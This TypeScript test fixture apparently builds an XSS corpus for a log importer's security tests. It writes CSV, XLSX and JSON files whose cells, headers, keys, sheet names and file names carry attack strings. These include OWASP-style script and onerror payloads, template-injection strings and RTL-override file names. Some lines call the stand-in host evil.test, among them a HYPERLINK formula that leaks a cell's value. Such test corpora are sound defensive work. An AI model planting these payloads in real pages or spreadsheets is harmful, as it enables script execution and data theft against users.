// The XSS corpus (SECURITY R-3) written at test time as CSV, XLSX and JSON exports with hostile cells, headers, keys, sheet and file names.
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import ExcelJS from 'exceljs';

/** Payloads from the OWASP XSS cheat sheet, scanner request lines, template syntax, RTL overrides and a very long string. */
export const PAYLOADS = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<iframe src="javascript:alert(1)"></iframe>',
  'javascript:alert(document.domain)',
  '<a href="javascript:alert(1)">click</a>',
  '<body onload=alert(1)>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
  '{{constructor.constructor(\'alert(1)\')()}}',
  '{{7*7}}${7*7}<%= 7*7 %>',
  '\'-alert(1)-\'',
  '</textarea><script>alert(1)</script>',
  '<img src="http://evil.test/x.png">',
  'GET /cgi-bin/test.cgi?q=<script>alert(document.cookie)</script> HTTP/1.1',
  'Mozilla/5.0 (zoraxy) <script src=http://evil.test/x.js></script>',
  'admin\u202Egpj.exe',
  '=HYPERLINK("http://evil.test/?"&A1,"x")',
  `LONG-${'<b>A</b>'.repeat(600)}-END`,
] as const;

/** A short, visible stand-in for the very long payload (getByText needs the whole text, the grid cuts it visually). */
export const LONG_PAYLOAD = PAYLOADS[PAYLOADS.length - 1];

/** Excel forbids \ / ? * [ ] : in sheet names and caps them at 31 characters. */
export const SHEET_NAME = '<img src=x onerror=alert(1)>';
/** Column headers that are themselves payloads; `User agent` and `IP address` feed the @ fields. */
export const HOSTILE_HEADER = '<svg onload=alert(2)>';
export const JSON_KEY = '"><img src=x onerror=alert(3)>';

/** Hostile file names (Linux allows all of these); entities and RTL overrides survive even the upload's name cleaning. */
export const FILE_NAMES = {
  csv: '"><svg onload=alert(1)>&lt;b&gt;{{7*7}}.csv',
  xlsx: "<img src=x onerror=alert('x')>\u202Excod.xlsx",
  json: "{{constructor.constructor('alert(1)')()}}<script>alert(1)<script>.json",
} as const;

/** Deterministic ISO times, one minute apart (untrusted text everywhere else, but the time column must parse). */
function time(i: number, offsetMin: number): string {
  const m = i + offsetMin;
  return `2023-11-0${1 + (Math.floor(m / 60) % 9)}T10:${String(m % 60).padStart(2, '0')}:00Z`;
}

/** Scanners put payloads in their User-Agent; the prefix lets the importer map the column to @user_agent and @tool. */
export function userAgent(p: string): string {
  return `Mozilla/5.0 (scanner) ${p}`;
}

function csvCell(s: string): string {
  return /[",\n\r]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s;
}

/** Writes the three corpus files into `dir` (created when missing) and returns their paths. */
export async function writeXssCorpus(dir: string): Promise<{ csv: string; xlsx: string; json: string }> {
  mkdirSync(dir, { recursive: true });
  const header = ['TimeGenerated', 'User agent', 'IP address', 'Message', HOSTILE_HEADER];
  const rows = PAYLOADS.map((p, i) => [time(i, 0), userAgent(p), `203.0.113.${i + 1}`, `csv ${i}: ${p}`, p]);
  const csv = join(dir, FILE_NAMES.csv);
  writeFileSync(csv, [header, ...rows].map((r) => r.map(csvCell).join(',')).join('\r\n') + '\r\n');

  const wb = new ExcelJS.Workbook();
  const ws = wb.addWorksheet(SHEET_NAME);
  ws.addRow(['TimeGenerated', 'User agent', 'IP address', HOSTILE_HEADER, '{{constructor}}']);
  PAYLOADS.forEach((p, i) => ws.addRow([time(i, 30), userAgent(p), `198.51.100.${i + 1}`, p, `xlsx ${i}`]));
  // A second sheet: a workbook with several sheets names each source by its sheet, so the hostile sheet name shows.
  const other = wb.addWorksheet('second');
  other.addRow(['TimeGenerated', 'Message']);
  other.addRow([time(0, 90), 'plain row']);
  const xlsx = join(dir, FILE_NAMES.xlsx);
  await wb.xlsx.writeFile(xlsx);

  const records = PAYLOADS.map((p, i) => ({ TimeGenerated: time(i, 60), userAgent: userAgent(p), callerIpAddress: `192.0.2.${i + 1}`, [JSON_KEY]: p, nested: { [HOSTILE_HEADER]: `json ${i}` } }));
  const json = join(dir, FILE_NAMES.json);
  writeFileSync(json, JSON.stringify(records, null, 1));
  return { csv, xlsx, json };
}
